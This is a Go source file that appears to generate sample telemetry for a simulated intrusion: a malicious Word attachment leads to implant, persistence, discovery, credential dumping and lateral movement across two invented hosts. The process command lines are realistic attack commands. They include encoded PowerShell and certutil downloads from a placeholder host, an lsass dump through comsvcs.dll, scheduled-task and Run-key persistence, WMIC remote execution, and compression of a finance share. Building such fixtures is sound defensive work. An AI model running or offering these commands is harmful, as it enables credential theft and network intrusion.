package sample

import (
	"encoding/base64"
	"unicode/utf16"
)

// intrusionCast is who and what takes part in the intrusion: two devices of one tenant and the processes on them.
type intrusionCast struct {
	t                           timeline
	clerk, admin                person
	workstation, server         *device
	loader, payload, dump       file
	word, shell, stage, stage2  *process
	rundll, implant, keys       *process
	console, console2, mapper   *process
	whoami, whoami2, net, net1  *process
	trust, trust2, trust3       *process
	dumper, task, reg, wmic     *process
	wmiShell, wmiLoad, orphan   *process
	service, helper, compressor *process
}

// newIntrusionCast sets the scene. It began a little over three hours ago with a document in a mail.
func newIntrusionCast(c clock) *intrusionCast {
	t := c.from(3*hour + 12*minute)
	x := &intrusionCast{t: t, clerk: person{tenant: contoso(), account: "ines.falk", name: "Ines Falk"},
		admin: person{tenant: contoso(), account: "adm-okoro", name: "Tobe Okoro (admin)"}}
	x.workstation = &device{
		tenant: contoso(), host: "fin-ws-017", platform: "Windows11", version: "24H2", build: 26100, group: "Finance", risk: "high",
		localIP:    "10.20.4.17",
		externalIP: "198.51.100.24", interfaces: []string{"fe80::91c2:7be0:1f4d:52aa"}, firstSeen: c.from(281 * day).at(0),
		loggedOn: []person{x.clerk},
	}
	x.server = &device{
		tenant: contoso(), host: "srv-files-02", platform: "WindowsServer2022", version: "21H2", build: 20348, group: "Servers", risk: "high",
		localIP:    "10.20.1.12",
		externalIP: "198.51.100.25", firstSeen: c.from(604 * day).at(0), loggedOn: []person{x.admin},
	}
	x.loader = file{folder: `C:\Users\ines.falk\AppData\Local\Temp`, name: "nvcache.dll", size: 286208, md5: true}
	x.payload = file{folder: `C:\ProgramData\NvCache`, name: "nvcachehost.exe", size: 1482752}
	x.dump = file{folder: `C:\ProgramData\NvCache`, name: "dbg.bin", size: 58191872, unhashed: true}
	x.onWorkstation()
	x.onServer()
	return x
}

// onWorkstation starts the processes of the first device. Explorer and Outlook are known only as parents.
func (x *intrusionCast) onWorkstation() {
	t := x.t
	powershell := microsoft(`C:\Windows\System32\WindowsPowerShell\v1.0`, "powershell.exe", 454656)
	cmd, rundll := system32("cmd.exe", 344064), system32("rundll32.exe", 73728)
	nltest := system32("nltest.exe", 540672)
	explorer := &process{device: x.workstation, user: x.clerk, id: 5812, started: t.at(-4 * hour),
		image: microsoft(`C:\Windows`, "explorer.exe", 3191352)}
	outlook := explorer.child(7320, t.at(-2*hour-310), microsoft(`C:\Program Files\Microsoft Office\root\Office16`, "OUTLOOK.EXE", 44231200), "")
	x.word = outlook.child(9044, t.at(12), microsoft(`C:\Program Files\Microsoft Office\root\Office16`, "WINWORD.EXE", 1639272),
		`"WINWORD.EXE" /n "C:\Users\ines.falk\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q7L2\Freight claim 88213.docm" /o ""`)
	x.console = x.word.child(9960, t.at(19), cmd, `cmd.exe /c start /min powershell -NoP -W Hidden -Enc `+encoded("& $env:TEMP\\a.ps1"))
	x.shell = x.console.child(10532, t.at(20), powershell,
		`powershell  -NoP -W Hidden -Enc `+encoded("$u='https://cdn.partsfeed-update.example/a/nvcache.dll'; Invoke-WebRequest $u -OutFile $env:TEMP\\nvcache.dll"))
	x.stage = x.shell.child(10788, t.at(26), powershell,
		`"powershell.exe" -Version 2 -NoLogo -NonInteractive -File C:\Users\ines.falk\AppData\Local\Temp\a.ps1`)
	x.rundll = x.stage.child(11876, t.at(41), rundll, `rundll32.exe C:\Users\ines.falk\AppData\Local\Temp\nvcache.dll,Start`)
	x.implant = x.rundll.child(12512, t.at(58), x.payload, `C:\ProgramData\NvCache\nvcachehost.exe --quiet --interval 45`)
	x.console2 = x.implant.child(12040, t.at(9*minute), cmd, `cmd.exe /Q /K`)
	x.stage2 = x.console2.child(12640, t.at(11*minute), powershell,
		`powershell -NoP -C "Get-ADComputer -Filter * -Property OperatingSystem | Out-File c:\programdata\nvcache\h.txt"`)
	x.whoami = x.console2.child(12112, t.at(9*minute+8), system32("whoami.exe", 73728), `whoami /all`)
	x.net = x.stage2.child(12160, t.at(12*minute), system32("net.exe", 81920), `net  group "Domain Admins" /domain`)
	x.net1 = x.net.child(12196, t.at(12*minute+0.4), system32("net1.exe", 184320), `C:\Windows\system32\net1  group "Domain Admins" /domain`)
	x.trust = x.console2.child(12232, t.at(12*minute+31), nltest, `nltest /domain_trusts`)
	x.trust2 = x.console2.child(12268, t.at(12*minute+44), nltest, `nltest /domain_trusts`)
	x.trust3 = x.console2.child(12304, t.at(13*minute+2), nltest, `nltest /domain_trusts`)
	x.reg = x.implant.child(12808, t.at(64), system32("reg.exe", 86016),
		`reg add HKCU\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v NvCache /t REG_SZ /d "C:\ProgramData\NvCache\nvcachehost.exe --quiet" /f`)
	x.mapper = x.stage2.child(13044, t.at(16*minute), file{folder: `C:\ProgramData\NvCache`, name: "dmap.exe", size: 910336},
		`dmap.exe -c All -o c:\programdata\nvcache\g.zip`)
	x.keys = x.stage2.child(13300, t.at(52*minute), cmd,
		`cmd /c "tasklist /fi "imagename eq lsass.exe" & rundll32 C:\windows\system32\comsvcs.dll, MiniDump 748 C:\ProgramData\NvCache\dbg.bin full"`)
	x.dumper = x.keys.child(13344, t.at(52*minute+1), rundll,
		`rundll32  C:\windows\system32\comsvcs.dll, MiniDump 748 C:\ProgramData\NvCache\dbg.bin full`)
	x.dumper.user, x.keys.user = system(), system()
	x.task = x.console2.child(12112, t.at(71*minute), system32("schtasks.exe", 245760),
		`schtasks /create /tn "\NvTelemetry\Cache" /tr C:\ProgramData\NvCache\nvcachehost.exe /sc onlogon /rl highest /f`)
	x.whoami2 = x.console2.child(14020, t.at(72*minute), system32("whoami.exe", 73728), `whoami /groups`)
	lost := &process{device: x.workstation, user: x.clerk, id: 13990, started: t.at(95 * minute)}
	x.orphan = lost.child(14212, t.at(96*minute), system32("certutil.exe", 1654784),
		`certutil -urlcache -split -f https://files.partsfeed-update.example/t.dat c:\programdata\nvcache\t.dat`)
	x.orphan.parentUnnamed = true
	x.compressor = x.console2.child(14388, t.at(118*minute),
		file{folder: `C:\ProgramData\NvCache`, name: "7za.exe", size: 1172992, publisher: "Igor Pavlov"},
		`7za a -mx1 c:\programdata\nvcache\fin.7z \\srv-files-02\finance$\2026 -v400m`)
	x.wmic = x.console2.child(14100, t.at(88*minute), system32("WMIC.exe", 577536),
		`wmic /node:srv-files-02 /user:CONTOSO\adm-okoro process call create "cmd /c rundll32 \\fin-ws-017\c$\programdata\nvcache\nvcache.dll,Start"`)
}

// onServer starts the processes of the second device.
func (x *intrusionCast) onServer() {
	t := x.t
	host := &process{device: x.server, user: system(), id: 3312, started: t.at(-40 * day),
		image: microsoft(`C:\Windows\System32\wbem`, "WmiPrvSE.exe", 536576)}
	x.wmiShell = host.child(6604, t.at(88*minute+2), system32("cmd.exe", 344064),
		`cmd /c rundll32 \\fin-ws-017\c$\programdata\nvcache\nvcache.dll,Start`)
	x.wmiShell.user = x.admin
	x.wmiLoad = x.wmiShell.child(6628, t.at(88*minute+3), system32("rundll32.exe", 73728),
		`rundll32  \\fin-ws-017\c$\programdata\nvcache\nvcache.dll,Start`)
	services := &process{device: x.server, user: system(), id: 828, started: t.at(-40*day - 30), image: system32("services.exe", 716544)}
	x.service = services.child(6912, t.at(90*minute), file{folder: `C:\Windows`, name: "nvsvc64.exe", size: 1482752, content: "implant as a service"},
		`C:\Windows\nvsvc64.exe -service`)
	x.helper = x.service.child(12112, t.at(90*minute+9), system32("cmd.exe", 344064), `cmd.exe /c vssadmin list shadows`)
}

// encoded is a script as PowerShell takes it after -EncodedCommand.
func encoded(script string) string {
	var raw []byte
	for _, unit := range utf16.Encode([]rune(script)) {
		raw = append(raw, byte(unit), byte(unit>>8))
	}
	return base64.StdEncoding.EncodeToString(raw)
}
